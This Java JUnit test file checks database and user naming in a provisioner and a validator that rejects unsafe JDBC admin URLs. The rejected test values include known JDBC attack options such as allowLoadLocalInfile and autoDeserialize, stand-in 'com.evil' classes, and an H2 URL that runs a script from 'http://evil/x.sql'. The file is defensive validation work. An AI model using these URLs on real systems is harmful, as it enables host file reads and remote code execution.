package io.platform.environment;

import java.util.HashSet;
import java.util.List;
import java.util.Set;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** Names of provisioned databases and users, and the admin URLs the provisioner opens. */
class DatabaseProvisionerTest {

	@Test
	void servicesWhoseNamesReadTheSameWithUnderscoresGetDifferentDatabases() {
		assertThat(DatabaseProvisioner.name("a-b", "c", 64)).isNotEqualTo(DatabaseProvisioner.name("a", "b-c", 64));
		assertThat(DatabaseProvisioner.name("a-b", "c", 32)).isNotEqualTo(DatabaseProvisioner.name("a", "b-c", 32));
		assertThat(DatabaseProvisioner.name("a-b", "c", 64)).startsWith("a_b_c_").matches("[a-z0-9_]+");
	}

	@Test
	void namesWithoutHyphensThatFitKeepTheReadableName() {
		// What earlier versions made: existing services keep their database.
		assertThat(DatabaseProvisioner.name("shop", "dev", 64)).isEqualTo("shop_dev");
		assertThat(DatabaseProvisioner.name("shop", "dev", 32)).isEqualTo("shop_dev");
	}

	@Test
	void longNamesAreCutWithAHashSoTheyNeitherCollideNorExceedMySqlsLimits() {
		String base = "a".repeat(60);
		List<String> apps = List.of(base + "x", base + "y", base + "xy", base + "-x");
		Set<String> databases = new HashSet<>();
		Set<String> users = new HashSet<>();
		for (String app : apps) {
			for (String env : List.of("dev", "test", "x-dev")) {
				String database = DatabaseProvisioner.name(app, env, DatabaseProvisioner.DATABASE_NAME_MAX);
				String user = DatabaseProvisioner.name(app, env, DatabaseProvisioner.USER_NAME_MAX);
				assertThat(database).hasSizeLessThanOrEqualTo(64).matches("[a-z0-9_]+");
				assertThat(user).hasSizeLessThanOrEqualTo(32).matches("[a-z0-9_]+");
				databases.add(database);
				users.add(user);
			}
		}
		assertThat(databases).hasSize(apps.size() * 3);
		assertThat(users).hasSize(apps.size() * 3);
		// A cut name is never the readable name of a shorter service either.
		assertThat(DatabaseProvisioner.name("a".repeat(30), "dev", 32)).isNotEqualTo("a".repeat(28) + "_dev")
			.isNotEqualTo(DatabaseProvisioner.name("a".repeat(28), "dev", 32));
	}

	@ParameterizedTest
	@ValueSource(strings = { "jdbc:mariadb://127.0.0.1:3306/platform_test", "jdbc:mysql://db.test:3306/",
			"jdbc:mysql://db.test", "jdbc:mariadb://db1.test:3306,db2.test:3306/",
			"jdbc:mysql://db.test:3306/?useSSL=true&serverTimezone=UTC&connectTimeout=3000",
			"jdbc:mariadb://[::1]:3306/" })
	void plainMySqlAndMariaDbUrlsAreAccepted(String url) {
		assertThat(AdminJdbcUrl.problem(url)).isNull();
	}

	@ParameterizedTest
	@ValueSource(strings = { "jdbc:mysql://db.test:3306/?allowLoadLocalInfile=true",
			"jdbc:mysql://db.test:3306/?useSSL=false&ALLOWLOCALINFILE=true",
			"jdbc:mariadb://db.test:3306/?allowLocalInfile=true", "jdbc:mysql://db.test/?allowUrlInLocalInfile=true",
			"jdbc:mysql://db.test/?autoDeserialize=true", "jdbc:mysql://db.test/?socketFactory=com.evil.Factory",
			"jdbc:mysql://db.test/?queryInterceptors=com.evil.I", "jdbc:mariadb://db.test/?permitMysqlScheme",
			"jdbc:mysql://db.test/?user=root&password=x", "jdbc:mysql://db.test/?INIT=x",
			"jdbc:mysql://(host=db.test,allowLoadLocalInfile=true)/", "jdbc:mysql://address=(host=db.test)(port=3306)/",
			"jdbc:mysql:loadbalance://db.test/", "jdbc:mysql:replication://db.test,db2.test/",
			"jdbc:mysql+srv://db.test/", "jdbc:mysql://db.test/?serverTimezone=UTC;allowLoadLocalInfile=true",
			"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "jdbc:h2:file:/tmp/x",
			"jdbc:postgresql://db.test/", "mysql://db.test/", "", " jdbc:mysql://db.test/",
			"jdbc:mysql://db.test/db name" })
	void otherDriversModesAndUnsafeOptionsAreRefused(String url) {
		assertThat(AdminJdbcUrl.problem(url)).isNotNull();
	}

	@Test
	void theProblemSaysWhyAnOptionIsRefused() {
		assertThat(AdminJdbcUrl.problem("jdbc:mysql://db.test/?allowLoadLocalInfile=true"))
			.isEqualTo("must not set option 'allowLoadLocalInfile': it lets the server read files of the platform's host");
		assertThat(AdminJdbcUrl.problem("jdbc:h2:mem:x")).contains("must be a MySQL or MariaDB URL");
		assertThat(AdminJdbcUrl.problem("jdbc:mysql://db.test/?cacheCallableStmts=true"))
			.contains("must not set option 'cacheCallableStmts'").contains("connectTimeout");
	}

}
